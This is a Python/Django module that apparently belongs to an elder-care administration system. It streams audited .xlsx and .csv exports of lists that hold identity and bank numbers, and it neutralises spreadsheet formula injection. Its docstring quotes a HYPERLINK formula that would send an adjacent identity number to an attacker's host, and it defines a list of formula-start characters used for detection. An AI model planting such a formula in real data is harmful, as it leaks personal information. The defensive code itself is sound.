"""Exports of any list to .xlsx or .csv, streaming in constant memory: rows come from a generator
(a selector iterating the database in chunks) and go out as they are made — CSV straight to the
response, .xlsx through openpyxl's write-only mode into a temporary file that is then streamed.
Every export is audited (who, what list, which filters, how many rows, full or masked numbers).

A text cell that a spreadsheet would run as a formula (it starts with = + - @, a tab or a carriage
return) is written as text: in .xlsx as a string cell, in .csv behind an apostrophe (OWASP "CSV
injection"). A name like `=HYPERLINK("http://…"&B2,"点我")` would otherwise send the next column —
an identity number — to whoever set the trap (issue 20, finding 10)."""

from __future__ import annotations

import csv
import datetime as dt
import tempfile
from collections.abc import Iterable, Iterator
from urllib.parse import quote

from django.http import FileResponse, StreamingHttpResponse
from django.utils import timezone

from yanglao.core.audit import audit
from yanglao.core.models import AuditEntry

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMATS = ("xlsx", "csv")


class _Echo:
    def write(self, value: str) -> str:
        return value


def export_response(
    *,
    by,
    fmt: str,
    name: str,
    header: list[str],
    rows: Iterable[list],
    what: str,
    filters: dict,
    full_pii: bool,
    full_bank_accounts: bool = False,
):
    """The download response for `rows` under `header`; `name` is the file name's stem
    (Chinese is fine). The audit entry is written when the export starts."""
    stamp = timezone.localtime().strftime("%Y%m%d-%H%M")
    filename = f"{name}-{stamp}.{fmt}"
    shown = {k: v for k, v in filters.items() if v not in ("", None)}
    audit(
        by=by,
        action=AuditEntry.Action.EXPORT,
        object_type=what,
        summary=f"导出{name}（{fmt}，{_pii_words(full_pii, full_bank_accounts)}）",
        after={
            "filters": {k: str(v) for k, v in shown.items()},
            "full_pii": full_pii or full_bank_accounts,
            "full_bank_accounts": full_bank_accounts,
        },
    )
    if fmt == "csv":
        response = StreamingHttpResponse(
            csv_writer_lines(header, rows), content_type="text/csv; charset=utf-8"
        )
    else:
        response = FileResponse(_xlsx_file(header, rows, name), content_type=XLSX)
    response["Content-Disposition"] = f"attachment; filename*=UTF-8''{quote(filename)}"
    return response


def _pii_words(full_pii: bool, full_bank_accounts: bool) -> str:
    numbers = f"{'完整' if full_pii else '脱敏'}身份证号和电话"
    return f"{numbers}，完整银行账号" if full_bank_accounts else numbers


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value) -> bool:
    """Whether a spreadsheet would take this text cell for a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_safe(value):
    """A CSV cell that no spreadsheet runs: formula-like text behind an apostrophe."""
    return "'" + value if is_formula_like(value) else value


def csv_writer_lines(header: list[str], rows: Iterable[list]) -> Iterator[str]:
    """CSV text line by line, formula-like cells neutralised, with the BOM that makes Excel read
    UTF-8 correctly."""
    writer = csv.writer(_Echo())
    yield "\ufeff" + writer.writerow([csv_safe(v) for v in header])
    for row in rows:
        yield writer.writerow([csv_safe(_plain(v)) for v in row])


def _plain(value):
    if isinstance(value, dt.date):
        return value.strftime("%Y-%m-%d")
    return "" if value is None else value


def xlsx_row(sheet, row: Iterable) -> list:
    """A write-only sheet's row with formula-like text kept as text (a string cell)."""
    from openpyxl.cell import WriteOnlyCell

    cells = []
    for value in row:
        if is_formula_like(value):
            cell = WriteOnlyCell(sheet, value=value)
            cell.data_type = "s"
            cells.append(cell)
        else:
            cells.append(value)
    return cells


def xlsx_workbook(header: list[str], sheets: dict[str, Iterable[list]]):
    """A temporary .xlsx file with one sheet per entry, each under the same bold header."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font

    book = Workbook(write_only=True)
    for title, rows in sheets.items():
        sheet = book.create_sheet(title[:31].replace("/", "、"))
        bold = []
        for text in header:
            cell = WriteOnlyCell(sheet, value=text)
            cell.font = Font(bold=True)
            bold.append(cell)
        sheet.append(bold)
        for row in rows:
            sheet.append(xlsx_row(sheet, row))
    out = tempfile.TemporaryFile()  # noqa: SIM115 — FileResponse closes it when sent
    book.save(out)
    out.seek(0)
    return out


def _xlsx_file(header: list[str], rows: Iterable[list], title: str):
    return xlsx_workbook(header, {title: rows})
